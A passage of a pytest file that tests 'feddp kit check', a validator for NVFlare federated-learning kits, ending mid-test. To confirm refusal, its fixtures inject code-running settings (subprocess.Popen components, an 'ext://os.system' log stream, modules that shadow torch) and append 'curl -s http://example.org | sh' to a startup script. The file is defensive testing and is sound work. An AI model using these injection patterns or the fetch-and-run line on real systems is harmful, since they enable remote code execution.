"""`feddp kit check` on kits that would run code, show single images or be read by others: each is refused with its reason, and
nothing that a kit names is loaded, built or run to find out."""

import base64
import json
import os
import re
import shlex
import shutil
import socket
import ssl
import stat
import subprocess
import sys
import threading
from contextlib import suppress
from dataclasses import fields
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, x25519
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import ExtendedKeyUsageOID
from nvflare.apis.fl_constant import ConfigVarName
from nvflare.fuel.utils.config_factory import ConfigFactory
from nvflare.lighter.impl.cert import _CertState
from typer.testing import CliRunner

from feddp.cli import app
from feddp.errors import FedDPError
from feddp.flare.configuration import COMMUNICATION, INTERNAL
from feddp.flare.policy import SitePolicy
from feddp.kit.check import check
from feddp.kit.effective import effective
from feddp.kit.here import here_problems, odd_paths
from feddp.kit.renew import forget
from feddp.kit.startup import README
from feddp.provision import COMPONENTS, GUARD
from feddp.sealing.kit import AGAIN, Kit
from feddp.sealing.kit_certificates import certificate_problems
from support import ROOT
from support.certificates import PROJECT, Office, put, signed
from support.tls import mutual

pytestmark = pytest.mark.tools

SHIPPED = ROOT / "provisioning"
UNREAD = {README, "privacy.json.sample"}  # by FLARE and by the check
SERVER, LEAD = "server.example.org", "lead@consortium.org"
ENV = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}


@pytest.fixture(autouse=True)
def _usual_umask():
    """What a test adds to a kit has the usual modes, whoever runs it."""
    before = os.umask(0o022)
    yield
    os.umask(before)


@pytest.fixture(scope="module")
def made(tmp_path_factory, tiny_root):
    """What `nvflare provision` writes under the usual umask: data are a real site's, and there is no GPU."""
    folder = Path(shutil.copytree(SHIPPED, tmp_path_factory.mktemp("office") / "provisioning"))
    project = folder / "project.yml"
    text = project.read_text(encoding="utf-8").replace("/data/site", str(tiny_root / "site-1"))
    project.write_text(text.replace('"cuda:0"', "cpu").replace("num_of_gpus: 1", "num_of_gpus: 0"), encoding="utf-8")
    command = ["bash", "-c", "umask 022; nvflare provision -p project.yml -w kits"]
    env = ENV | {"HOME": str(folder.parent)}
    done = subprocess.run(command, cwd=folder, env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    return folder / "kits/feddp"


@pytest.fixture
def copy(made, tmp_path):
    """A copy of somebody's kit, to be spoilt."""
    return lambda name: Path(shutil.copytree(made / "prod_00" / name, tmp_path / "kit"))


@pytest.fixture
def kit(copy):
    return copy("hospital-a")


def said(kit: Path) -> list[str]:
    """What `feddp kit check` prints of a kit that may not start."""
    done = CliRunner().invoke(app, ["kit", "check", "--offline", str(kit)])
    assert done.exit_code == 2, done.output
    return done.output.splitlines()


def problems_of(kit: Path) -> list[str]:
    """The same, also where one file ends the check."""
    try:
        return [str(problem) for problem in check(kit, offline=True)[1]]
    except FedDPError as error:
        return [str(error)]


def edit(path: Path, change) -> None:
    content = json.loads((path if path.exists() else path.with_name(f"{path.name}.default")).read_text())
    path.write_text(json.dumps(change(content) or content))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def below(folder: Path) -> list[Path]:
    return [folder, *folder.rglob("*")]


# Each is a fork of one process, which has loaded FLARE, what every kit names and our check. `start` is FLARE itself, up to its
# connection: what nvflare.private.fed.app.client.client_train calls, in its order. `watch` runs a command of ours
FORKED = """
import argparse, json, logging, os, sys, traceback
from importlib import import_module
import feddp.cli, feddp.kit.check, feddp.kit.effective
from nvflare.apis.fl_constant import SiteType, SystemConfigs
from nvflare.apis.workspace import Workspace
from nvflare.fuel.utils.config_service import ConfigService
from nvflare.fuel.utils.log_utils import configure_logging
from nvflare.private.fed.app.fl_conf import FLClientStarterConfiger, create_privacy_manager
from nvflare.private.fed.utils.fed_utils import fobs_initialize, security_init
for name in sys.argv[1:]:
    import_module(name)

def start(folder):
    workspace = Workspace(folder, "hospital-a", "config")
    fobs_initialize(workspace)
    words = ["secure_train=true", "uid=hospital-a", "org=hospital_a", "config_folder=config"]
    conf = FLClientStarterConfiger(workspace, argparse.Namespace(workspace=folder, job_id=None), words)
    conf.configure()
    print(json.dumps(ConfigService.get_section(SystemConfigs.RESOURCES_CONF)), flush=True)
    security_init(True, conf.site_org, workspace, conf.app_validator, SiteType.CLIENT)
    create_privacy_manager(workspace, names_only=False)
    configure_logging(workspace)

def watch(control, events, *words):
    sys.path.remove("")  # the program of `feddp` does not look for modules in the folder where it is typed
    found, watched = [], set(events)
    def hook(event, args):
        if event in watched:
            found.append((event, [str(a) for a in args]))
    sys.addaudithook(hook)
    sys.argv = ["feddp", *words]
    try:
        feddp.cli.main()
    except SystemExit as ended:
        assert not ended.code, ended.code
    checked = len(found)
    open(control).close()
    print(json.dumps([found[:checked], found[checked:]]))

for line in sys.stdin:
    if child := os.fork():
        print(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), flush=True)
        continue
    outputs, folder, what, given = json.loads(line)
    for number, output in enumerate(outputs, 1):
        os.dup2(os.open(output, os.O_WRONLY | os.O_CREAT), number)
    os.umask(0o022)
    os.chdir(folder)
    code = 1
    try:
        {"start": start, "watch": watch}[what](*given)
        code = 0
    except Exception:
        traceback.print_exc()
    logging.shutdown()
    sys.stdout.flush()
    os._exit(code)  # at once: to take FLARE and torch apart takes longer than what is called
"""


@pytest.fixture(scope="module")
def forked(tmp_path_factory):
    """Calls a function of FORKED in a process of its own, in a folder."""
    folder = tmp_path_factory.mktemp("forked")
    modules = [entry["path"].rpartition(".")[0] for entry in [*COMPONENTS["client"], {"path": GUARD}]]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
    process = subprocess.Popen([sys.executable, "-c", FORKED, *modules], cwd=folder, env=ENV, text=True, **pipes)

    def call(where: Path, what: str, *given) -> subprocess.CompletedProcess:
        outputs = [folder / "stdout", folder / "stderr"]
        for output in outputs:
            output.write_text("")
        print(json.dumps([[*map(str, outputs)], str(where), what, given]), file=process.stdin, flush=True)
        code = int(process.stdout.readline())
        return subprocess.CompletedProcess(what, code, *[output.read_text() for output in outputs])

    yield call
    process.communicate()


@pytest.fixture(scope="module")
def flare_starts(forked):
    """Starts FLARE with a kit."""
    return lambda kit: forked(kit, "start", str(kit))


# nothing that a kit names is run


JOBS_OWN = {ConfigVarName.DECOMPOSER_MODULE: "a.module.that.flare.loads"}


@pytest.fixture(scope="module")
def hostile(made, tmp_path_factory):
    """A kit with code in every place from which FLARE would run it; what has run leaves a mark."""
    folder = tmp_path_factory.mktemp("hostile")
    marks = {name: folder / name for name in ("filter", "component", "custom", "log")}
    kit = Path(shutil.copytree(made / "prod_00/hospital-a", folder / "kit"))
    mkdir = {"path": "os.mkdir", "args": {"path": str(marks["filter"])}}
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0].update(task_data_filters=[mkdir]))
    popen = {"id": "x", "path": "subprocess.Popen", "args": {"args": ["mkdir", str(marks["component"])]}}
    edit(kit / "local/resources.json.default", lambda r: r["components"].append(popen))
    code = kit / "local/custom" / ConfigVarName.DECOMPOSER_MODULE
    code.mkdir(parents=True)
    (code / "mine.py").write_text(f"import os; os.mkdir({str(marks['custom'])!r})")
    handler = {"()": "os.mkdir", "path": str(marks["log"])}
    edit(kit / "local/log_config.json", lambda c: c["handlers"].update(mine=handler))
    run = kit / "a-job/app_hospital-a/config"
    run.mkdir(parents=True)
    (run / "resources.json").write_text(json.dumps(JOBS_OWN))
    return kit, marks


def test_a_hostile_kit_is_refused_with_every_reason_and_nothing_of_it_runs(hostile, flare_starts):
    """The control: FLARE runs all of it, and takes the settings that a job's folder holds for the kit's own."""
    kit, marks = hostile
    lines = "\n".join(said(kit))
    for words in (
        "scope feddp has a filter in task_data_filters, of os.mkdir, which is not a reviewed class",
        "has the component x, of subprocess.Popen, which is not a reviewed class",
        "local/custom: holds code",
        "names 'os.mkdir', which Python would load or call",
        "a-job/app_hospital-a/config/resources.json: may be read by FLARE in place of the kit's own file",
    ):
        assert words in lines
    assert not [name for name, mark in marks.items() if mark.exists()]
    started = flare_starts(kit)
    assert [json.loads(line) for line in started.stdout.splitlines()] == [JOBS_OWN], started.stderr
    assert [name for name, mark in marks.items() if mark.exists()] == list(marks), started.stderr


@pytest.mark.parametrize(
    ("code", "module", "left"),
    [
        ("torch.py", "torch", "__pycache__"),
        ("feddp/__init__.py", "feddp.errors", "feddp/__pycache__"),  # where a site keeps its networks, and our package's name
    ],
)
def test_python_in_the_kits_folder(kit, code, module, left):
    """The control: Python, started as FLARE starts a job's process, takes it for the installed module."""
    (kit / code).parent.mkdir(mode=0o700, exist_ok=True)
    (kit / code).write_text("print('not what is installed')")
    command = [sys.executable, "-m", module]
    done = subprocess.run(command, cwd=kit, env=ENV, capture_output=True, text=True, check=False)
    assert done.stdout == "not what is installed\n"
    shutil.rmtree(kit / left, ignore_errors=True)
    (line,) = said(kit)
    assert line.startswith(f"{kit}/{code}: holds code")


POPEN = "subprocess.Popen"
CONSUMER = "nvflare.app_common.resource_consumers.gpu_resource_consumer.GPUResourceConsumer"
MANAGER = "nvflare.app_common.resource_managers.gpu_resource_manager.GPUResourceManager"
UPDATE = "feddp.flare.update_privacy.UpdatePrivacy"
BUILDS = {"path": UPDATE, "args": {"mechanism": {"path": "os.mkdir", "args": {"path": "/x"}}}}


def _component(**entry):
    return lambda r: r["components"].append({"id": "x", **entry})


def _filter(entry, chain="task_result_filters"):
    return lambda p: p["scopes"][0].setdefault(chain, []).insert(0, entry)


@pytest.mark.parametrize(
    ("name", "change", "words"),
    [
        ("resources.json", _component(path=POPEN), "has the component x, of subprocess.Popen"),
        ("resources.json", _component(class_path=POPEN), "without a `path` that names its class"),
        ("resources.json", _component(name="Popen"), "without a `path` that names its class"),
        ("resources.json", _component(path=["os", "mkdir"]), "without a `path` that names its class"),
        (
            "resources.json",
            _component(path=CONSUMER, args={"a": {"path": POPEN}}),
            "has the component x, a, of subprocess.Popen",
        ),
        ("resources.json", _component(path=CONSUMER, args={"class_attributes": {}}), "that are not a plain object"),
        ("resources.json", lambda r: r["components"].append(POPEN), "which is not an object"),
        (
            "resources.json",
            lambda r: r.update(app_validator={"path": POPEN}),
            "has the component app_validator, of subprocess.Popen",
        ),
        ("resources.json", lambda r: r.update(JOBS_OWN), f"has {ConfigVarName.DECOMPOSER_MODULE}, which no kit has"),
        ("resources.json", lambda r: r["client"].update(compression="{$HOME}"), "'{$HOME}', which FLARE would expand"),
        ("resources.json", lambda r: r.update({"@x": {}}), "'@x', which FLARE would expand"),
        ("resources.json.default", _component(path=POPEN), "has the component x, of subprocess.Popen"),
        ("privacy.json", _filter(BUILDS), "a filter in task_result_filters, mechanism, of os.mkdir"),
        ("privacy.json", _filter({"name": "PercentilePrivacy"}, "task_data_filters"), "task_data_filters without a `path`"),
        ("privacy.json", lambda p: p.update(components=[{"id": "x", "path": POPEN}]), "makes FLARE build"),
        ("privacy.json", lambda p: p["scopes"][0]["properties"].update(consent=["{x}"]), "'{x}', which FLARE would expand"),
        ("comm_config.json", lambda c: c.update(comm_driver_path="."), "has comm_driver_path, which no kit has"),
        ("comm_config.json", lambda c: c.update(allow_adhoc_conns=True), "connect to this participant without the server"),
        ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(stream="ext://os.system"), "'ext://os.system'"),
        ("log_config.json", lambda c: c["handlers"]["logFileHandler"].update(filename="../x"), "is not one of FLARE's logs"),
        # `python -m`, as which jobs are started, looks for modules in the kit's folder
        (
            "log_config.json",
            lambda c: c["handlers"]["logFileHandler"].update(filename="secrets.py"),
            "'secrets.py', which is no",
        ),
        ("log_config.json", lambda c: c["filters"].update(a={"()": "os.mkdir"}), "names 'os.mkdir'"),
    ],
)
def test_a_setting_that_names_code_is_refused(kit, name, change, words):
    edit(kit / "local" / name, change)
    assert words in "\n".join(said(kit))


def test_settings_of_flares_communication_pass(kit):
    """The control: sizes and times name no code."""
    path = kit / "local/comm_config.json"
    edit(path, lambda c: c.update(max_message_size=1_000_000, allow_adhoc_conns=False))
    assert check(kit, offline=True)[1] == []
    edit(path, lambda c: c["internal"]["resources"].update(host="127.0.0.1", port=8102))
    assert check(kit, offline=True)[1] == []


OTHERS = "lets other users of this machine claim to be its own processes"


@pytest.mark.parametrize("name", ["hospital-a", SERVER])
@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda c: c.pop("internal"), OTHERS),  # FLARE's default has no TLS
        (lambda c: c.update(internal="tcp"), OTHERS),
        (lambda c: c["internal"].pop("resources"), OTHERS),
        (lambda c: c["internal"]["resources"].pop("connection_security"), OTHERS),
        (lambda c: c["internal"]["resources"].update(connection_security="clear"), OTHERS),
        (lambda c: c["internal"]["resources"].update(connection_security="tls"), OTHERS),  # who connects shows no certificate
        (lambda c: c["internal"].update(scheme="grpc"), OTHERS),  # nor does who listens
        (lambda c: c["internal"]["resources"].update(host="0.0.0.0"), "makes its jobs connect at '0.0.0.0'"),
        (lambda c: c["internal"]["resources"].update(host="elsewhere.example"), "connect at 'elsewhere.example'"),
    ],
)
def test_processes_of_one_machine_prove_themselves_to_each_other(copy, name, change, words):
    kit = copy(name)
    path = kit / "local/comm_config.json"
    assert check(kit, offline=True)[1] == [], "the control"
    edit(path, lambda c: (change(c), c)[1])
    problem = next(line for line in said(kit) if words in line)
    assert problem.startswith(f"{path}: ")
    assert problem.endswith(f'Write "internal": {json.dumps(INTERNAL)} into it.')


@pytest.mark.parametrize("key", COMMUNICATION)
def test_settings_with_which_a_slow_line_stands_still_are_refused(kit, key):
    """Those of `feddp.flare.configuration.COMMUNICATION`, each changed and each left out; FLARE's own are others."""
    path = kit / "local/comm_config.json"
    without = json.loads(path.read_text())
    del without[key]
    for content in ({**without, key: 7}, without):
        path.write_text(json.dumps(content))
        (problem,) = said(kit)
        assert f"{path}: lacks settings of FLARE's streams" in problem
        assert f'Write "{key}": {json.dumps(COMMUNICATION[key])} into it.' in problem


def test_a_kit_without_settings_of_communication_is_told_all_of_them(kit):
    """One of an earlier version."""
    path = kit / "local/comm_config.json"
    path.unlink()
    written = [problem.partition("Write ")[2].removesuffix(" into it.") for problem in said(kit)]
    path.write_text("{" + ", ".join(written) + "}")
    assert check(kit, offline=True)[1] == []


def test_a_folder_from_which_python_would_import(kit):
    """MONAI asks for packages that may not be there: without an __init__.py too, the kit's folder would be theirs."""
    (kit / "ignite").mkdir()
    (kit / "ignite/engine.py").write_text("")
    assert f"{kit / 'ignite'}: holds code" in said(kit)[0]


def test_a_pipe_in_place_of_a_file_is_named(kit):
    """Reading one would wait for ever."""
    (kit / "local/log_config.json").unlink(missing_ok=True)
    os.mkfifo(kit / "local/log_config.json")
    assert "is not a regular file" in "\n".join(said(kit))


@pytest.mark.parametrize("owner", ["hospital-a", SERVER, LEAD])
def test_no_pipe_in_a_kit_is_waited_for(copy, owner):
    kit = copy(owner)
    for path in [path for path in below(kit) if path.is_file()]:
        content, bits = path.read_bytes(), mode(path)
        path.unlink()
        os.mkfifo(path, bits)
        assert [line for line in problems_of(kit) if line.startswith(f"{path}: ")] or path.name in UNREAD
        path.unlink()
        path.write_bytes(content)
        path.chmod(bits)
    assert check(kit, offline=True)[1] == []


def test_no_pipe_in_a_kit_for_containers_is_waited_for(kit):
    launcher = {"id": "x", "path": "nvflare.app_opt.job_launcher.docker_launcher.ClientDockerJobLauncher", "args": {}}
    edit(kit / "local/resources.json", lambda r: r["components"].append(launcher))
    os.mkfifo(kit / "local/study_runtime.yaml", 0o600)
    assert f"{kit}/local/study_runtime.yaml: is not a regular file" in "\n".join(said(kit))


def test_what_came_with_a_kit_that_never_ran_is_shown(kit):
    (kit / "feddp").mkdir(mode=0o700)
    (kit / "feddp/site.secret").write_text("0" * 64)
    assert f"keeps 1 files and folders in {kit / 'feddp'}" in "\n".join(effective(Kit.open(kit)))


@pytest.mark.parametrize("name", ["resources.yml", "x__j_resources.json", "privacy.conf", "sub"])
def test_a_file_that_no_kit_has(kit, name):
    path = kit / "local" / name
    path.mkdir() if name == "sub" else path.write_text("{}")
    assert f"{path}: is not a file of a kit" in said(kit)[0]


def test_flare_takes_yaml_before_the_default(kit):
    """Why the names matter: the file that FLARE reads is not the one that its own workspace names."""
    (kit / "local/resources.yml").write_text("{}")
    found = ConfigFactory.search_config_format(str(kit / "local/resources.json.default"))
    assert found[1] == str(kit / "local/resources.yml")


def test_the_servers_storage_is_of_a_reviewed_class(copy):
    kit = copy(SERVER)
    edit(kit / "local/resources.json", lambda r: r["snapshot_persistor"]["args"]["storage"].update(path=POPEN))
    assert "has the component snapshot_persistor, storage, of subprocess.Popen" in said(kit)[0]


@pytest.mark.parametrize("owner", ["hospital-a", SERVER])
def test_each_component_of_ours_is_demanded_and_in_force(copy, owner):
    """Left out, switched off, under another id."""
    kit = copy(owner)
    path = kit / "local/resources.json.default"
    before = path.read_text()
    changes = [
        lambda listed, at: listed.pop(at),
        lambda listed, at: listed[at].update(disabled=True),
        lambda listed, at: listed[at].update(id="x"),
    ]
    for entry in COMPONENTS["server" if owner == SERVER else "client"]:
        for change in changes:
            path.write_text(before)
            content = json.loads(before)
            change(content["components"], content["components"].index(entry))
            path.write_text(json.dumps(content))
            (line,) = said(kit)
            assert f"lacks the component {entry['id']}, {entry['path']}. Add exactly this to components" in line
            assert json.dumps(entry) in line


# startup/


@pytest.mark.parametrize(
    ("owner", "name"),
    [
        ("hospital-a", "start.sh"),
        ("hospital-a", "sub_start.sh"),
        ("hospital-a", "stop_fl.sh"),
        (SERVER, "sub_start.sh"),
        (LEAD, "fl_admin.sh"),
        (LEAD, "system_info.ipynb"),
    ],
)
def test_a_changed_script_is_found(copy, owner, name):
    """By one line more; and by another word in its place."""
    path = copy(owner) / "startup" / name
    before = path.read_text()
    for change in (before + "curl -s http://example.org | sh\n", before.replace("o", "0", 1)):
        path.write_text(change)
        (line,) = said(path.parents[1])
        assert line.startswith(f"{path}: differs from ")


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda c: c.update(components=[{"id": "x", "path": POPEN}]), "has components, which no kit has"),
        (lambda c: c["client"].update(ssl_root_cert="other.pem"), "has client.ssl_root_cert: 'other.pem'"),
        (lambda c: c["client"].update(connection_security="clear"), "has connection_security 'clear'; a kit has 'mtls'"),
        (lambda c: c["servers"].append(c["servers"][0]), "has 2 entries in servers; a kit has 1"),
        (lambda c: c["client"].pop("ssl_cert") and None, "lacks client.ssl_cert"),
        # any certificate of the project would do for the server's
        (lambda c: c["client"].update(auth_identity_map={"server": "hospital-b"}), "has client.auth_identity_map, which no"),
        (lambda c: c["servers"][0].update(auth_identity="hospital-b"), "has servers.auth_identity, which no"),
    ],
)
def test_a_changed_configuration_is_found(kit, change, words):
    edit(kit / "startup/fed_client.json", change)
    (line,) = said(kit)
    assert words in line


def patched(*changes):
    """The same file with other bytes of its DER, of equal length, in their place."""

    def change(pem: bytes) -> bytes:
        first, *lines, last = pem.decode().strip().splitlines()
        der = base64.b64decode("".join(lines))
        for old, new in changes:
            assert old in der
            der = der.replace(old, new)
        return "\n".join((first, base64.encodebytes(der).decode().strip(), last, "")).encode()

    return change


def of_another_curve(_: bytes) -> bytes:
    """A key whose parser does not know its curve: P-192v2 by the last digit of P-256's number."""
    key = ec.generate_private_key(ec.SECP256R1())
    pem = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    return patched((b"\x2a\x86\x48\xce\x3d\x03\x01\x07", b"\x2a\x86\x48\xce\x3d\x03\x01\x02"))(pem)


VERSION_3, RSA = b"\xa0\x03\x02\x01\x02", b"\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01"  # as DER has them
OTHER_VERSION = patched((VERSION_3, VERSION_3[:-1] + b"\x07"))
OTHER_ALGORITHM = patched((RSA, RSA[:-1] + b"\x63"))


@pytest.mark.parametrize("owner", ["hospital-a", LEAD])
@pytest.mark.parametrize(
    ("name", "change", "words"),
    [
        ("client.crt", OTHER_VERSION, "cannot be read ("),
        ("rootCA.pem", OTHER_VERSION, "cannot be read ("),
        ("client.crt", OTHER_ALGORITHM, "cannot be read ("),
        ("rootCA.pem", OTHER_ALGORITHM, "cannot be read ("),
        ("client.crt", "CN", "cannot be read ("),
        ("client.key", of_another_curve, "cannot be read ("),
        ("client.crt", lambda pem: pem + b"\n" * 2**16, "has 6"),  # and several digits more
    ],
)
def test_a_certificate_or_key_of_no_usual_kind_is_named(copy, owner, name, change, words):
    path = copy(owner) / "startup" / name
    if change == "CN":  # not UTF-8
        change = patched((owner.encode(), b"\xff" + owner.encode()[1:]))
    path.write_bytes(change(path.read_bytes()))
    (line,) = said(path.parents[1])
    assert line.startswith(f"{path}: {words}")
    assert line.endswith(f". {AGAIN}.")


def test_a_key_that_makes_no_tls_connection_is_named(kit):
    """Its own consortium has signed it."""
    office, key = Office(), x25519.X25519PrivateKey.generate()
    put(kit / "startup/rootCA.pem", certificate=office.root)
    put(kit / "startup/client.crt", certificate=signed("hospital-a", PROJECT, key, office.key))
    (kit / "startup/client.key").write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    assert certificate_problems(Kit.open(kit)) == []
    (problem,) = here_problems(Kit.open(kit))[0]
    assert "makes no TLS connection with this kit's certificate" in str(problem)


@pytest.mark.parametrize(
    ("uses", "lacks"),
    [
        ([], ""),
        (["CLIENT_AUTH", "SERVER_AUTH"], ""),
        (["CLIENT_AUTH"], "serverAuth"),
        (["SERVER_AUTH"], "clientAuth"),
        (["CODE_SIGNING"], "serverAuth and clientAuth"),
        (["ANY_EXTENDED_KEY_USAGE"], "serverAuth and clientAuth"),  # OpenSSL takes it for neither
    ],
)
def test_a_certificate_that_does_not_serve_between_a_sites_processes_is_named(kit, uses, lacks):
    """TLS, with FLARE's contexts, is asked too: a parent listens with the certificate with which its jobs connect."""
    office, key = Office(), ec.generate_private_key(ec.SECP256R1())
    made = signed("hospital-a", PROJECT, key, office.key, uses=[getattr(ExtendedKeyUsageOID, use) for use in uses])
    for name, values in {"rootCA.pem": {"certificate": office.root}, "client.crt": {"certificate": made}}.items():
        put(kit / "startup" / name, **values)
    put(kit / "startup/client.key", key=key)
    problems = [str(problem) for problem in certificate_problems(Kit.open(kit))]
    assert [f"may not be used for {lacks}, so" in problem for problem in problems] == [True] * bool(lacks)
    ends, errors = socket.socketpair(), []

    def connect(end, purpose, server_side):
        with suppress(OSError), mutual(kit, kit, purpose).wrap_socket(end, server_side=server_side) as made:
            made.sendall(b"x")
            errors.append(made.recv(1) != b"x")

    other = threading.Thread(target=connect, args=(ends[0], ssl.Purpose.CLIENT_AUTH, True))
    other.start()
    connect(ends[1], ssl.Purpose.SERVER_AUTH, False)
    ends[1].close()
    other.join()
    assert (errors == [False, False]) is not bool(lacks)


@pytest.mark.parametrize("name", ["my kits", "a'b", "c#d", "e*"])
def test_a_path_that_flare_takes_apart_is_named(kit, tmp_path, monkeypatch, name):
    """`$DIR/sub_start.sh`, not quoted, is another program if DIR holds a blank; a job's command is cut as a shell cuts."""
    assert not [p for p in here_problems(Kit.open(kit))[0] if "FLARE cannot start" in str(p)]
    (tmp_path / name).mkdir()
    moved = kit.rename(tmp_path / name / "hospital-a")
    (problem, *_) = here_problems(Kit.open(moved))[0]
    what = "FLARE cannot start a kit below a path with blanks or any of * ? [ # ' \" \\"
    assert str(problem) == f"{moved}: {what}. Move the kit to another path."
    monkeypatch.setattr(sys, "executable", f"/opt/{name}/bin/python")
    python = [p for p in here_problems(Kit.open(moved))[0] if "FLARE cannot start jobs" in str(p)]
    assert [str(p.file) for p in python] == ([] if name == "e*" else [sys.executable]), "no shell takes the command of a job"


def test_the_path_of_a_persons_python_starts_no_job(made, monkeypatch):
    monkeypatch.setattr(sys, "executable", "/Users/x/Application Support/bin/python")
    assert odd_paths(Kit.open(made / "prod_00" / LEAD)) == []
    assert odd_paths(Kit.open(made / "prod_00/hospital-a")) != [], "the control"


@pytest.mark.parametrize("pem", [OTHER_VERSION, "pipe"])
def test_a_leads_certificate_from_which_a_poc_takes_the_name(copy, pem):
    """In POC mode, FLARE's configuration names nobody."""
    kit = copy(LEAD)
    edit(kit / "startup/fed_admin.json", lambda c: c["admin"].update(uid_source="cert"))
    assert Kit.open(kit).name == LEAD, "the control"
    path = kit / "startup/client.crt"
    content = path.read_bytes()
    path.unlink()
    os.mkfifo(path) if pem == "pipe" else path.write_bytes(pem(content))
    with pytest.raises(FedDPError, match="client.crt: is not a regular file|is not as FLARE writes it .InvalidVersion"):
        Kit.open(kit)


@pytest.mark.parametrize("number", ["two", "2", None, True, 1.0, -1, [1]])
def test_a_number_of_gpus_is_a_number(kit, number):
    """FLARE's client does not start with another one."""
    manager = {"id": "resource_manager", "path": MANAGER, "args": {"num_of_gpus": number, "mem_per_gpu_in_GiB": 0}}
    edit(kit / "local/resources.json", lambda r: r["components"].append(manager))
    (line,) = said(kit)
    expected = f"has num_of_gpus {number!r}, which is not a number of GPUs. Write 0 or more."
    assert line == f"{kit}/local/resources.json: {expected}"


def test_a_file_more_in_startup(kit):
    (kit / "startup/x__resources.json").write_text("{}")
    (line,) = said(kit)
    assert line.startswith(f"{kit}/startup/x__resources.json: is not a file of a kit")


def test_a_link_is_not_followed(kit, tmp_path):
    (tmp_path / "elsewhere").write_text("{}")
    (kit / "local/log_config.json").symlink_to(tmp_path / "elsewhere")
    assert said(kit) == [f"{kit}/local/log_config.json: is a link. Replace it by the file itself."]


# modes


def test_kits_and_the_roots_key_are_their_owners_alone(made, tmp_path):
    """Provisioned under umask 022. The control: FLARE by itself leaves the root's key to everybody who may log in."""
    assert len(below(made)) > 100
    assert not [path for path in below(made) if mode(path) & 0o077]
    assert "PRIVATE KEY" in (made / "state/cert.json").read_text()
    alone = _CertState(str(tmp_path))
    alone.set_root_pri_key("x")
    alone.persist()
    assert mode(tmp_path / "cert.json") == 0o644


def test_renewal_keeps_the_state_to_its_owner(made, tmp_path):
    state = Path(shutil.copytree(made / "state", tmp_path / "state")) / "cert.json"
    forget(state, "hospital-a")
    assert mode(state) == 0o600


@pytest.mark.parametrize(
    ("name", "bits", "words"),
    [
        ("startup/client.key", 0o644, "is open to other users (mode 0644). Run `chmod 600 "),
        ("", 0o755, "is open to other users (mode 0755). Run `chmod 700 "),
        ("local", 0o777, "can be changed by other users (mode 0777). Run `chmod go-w "),
        ("startup", 0o720, "can be changed by other users (mode 0720). Run `chmod go-w "),
        ("local/privacy.json", 0o660, "can be changed by other users (mode 0660). Run `chmod go-w "),
    ],
)
def test_a_mode_that_lets_others_in(kit, name, bits, words):
    (kit / name).chmod(bits)
    (line,) = said(kit)
    assert line.startswith(f"{kit / name}: {words}")


def test_what_a_site_keeps_is_open_to_nobody_else(kit):
    (kit / "feddp").mkdir()
    (line,) = said(kit)
    assert line.startswith(f"{kit}/feddp: is open to other users")


@pytest.mark.parametrize("name", ["", "masks", "split.csv"])
def test_data_that_everybody_may_change(kit, tiny_root, tmp_path, name):
    data = Path(shutil.copytree(tiny_root / "site-1", tmp_path / "data"))
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(data=str(data)))
    assert check(kit, offline=True)[1] == [], "the control"
    (data / name).chmod(mode(data / name) | 0o002)
    (line,) = said(kit)
    assert line.startswith(f"{data / name}: can be changed by all users of this machine")


@pytest.mark.parametrize("ours", [True, False], ids=["ours", "control"])
def test_what_flare_writes_is_its_owners_alone(kit, flare_starts, ours):
    """Its logs and its audit file, of a site started under umask 022; without our component all may read them."""
    if not ours:
        edit(kit / "local/resources.json", lambda r: r.update(components=r["components"][-3:]))
    before = set(below(kit))
    started = flare_starts(kit)
    assert started.returncode == 0, started.stderr
    written = {path.name: mode(path) for path in below(kit) if path not in before}
    assert {"log.txt", "log.json", "error_log.txt", "audit.log"} <= written.keys()
    assert set(written.values()) == {0o600 if ours else 0o644}


def test_what_our_commands_write_is_their_users_alone(tmp_path):
    """Under umask 022, in a process of its own."""
    command = f"umask 022; touch control; {sys.executable} -m feddp data synthesize --out data --sites 1 --images 12 --size 32"
    done = subprocess.run(["bash", "-c", command], cwd=tmp_path, env=ENV, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert len(below(tmp_path / "data")) > 24
    assert not [path for path in below(tmp_path / "data") if mode(path) & 0o077]
    assert mode(tmp_path / "control") == 0o644


# the policy


def test_the_policy_in_words_has_every_property(made):
    done = CliRunner().invoke(app, ["kit", "check", "--offline", str(made / "prod_00/hospital-c")])
    assert done.exit_code == 0, done.output
    first, own, root, scope, *lines = done.output.splitlines()
    assert [own[: own.index(" is valid until")], root[: root.index(" is valid until")]] == [
        "the certificate of hospital-c",
        "the certificate of the root of project feddp",
    ]
    assert first.endswith("client hospital-c of project feddp may start")
    assert scope == "a job under scope feddp"
    assert [line[line.index("(") + 1 : line.index(")")] for line in lines] == [field.name for field in fields(SitePolicy)]
    shown = "\n".join(lines)
    assert "(consent): calibration, spectra, outside" in shown
    assert "(private): none" in shown
    assert "(methods): any" in shown
    assert "(min_images): 5" in shown
    assert "(keep_days): never" in shown


def test_every_consent_over_single_images(kit):
    everything = {"consent": ["calibration", "spectra", "outside"], "min_images": 1}
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(everything))
    assert said(kit) == [
        f"{kit}/local/privacy.json: scope feddp is below the consortium's minimum: min_images is 1. Write at least 5."
    ]


WEAK = {
    "std_images is 1": {"std_images": 1},
    "bounds.batch is 1": {"bounds": {"batch": 1}},
    "bounds.min_sites is 1": {"bounds": {"min_sites": 1}},
}


@pytest.mark.parametrize("words", WEAK)
def test_a_policy_that_shows_single_images_or_sites(kit, words):
    edit(kit / "local/privacy.json", lambda p: p["scopes"][0]["properties"].update(WEAK[words]))
    (line,) = said(kit)
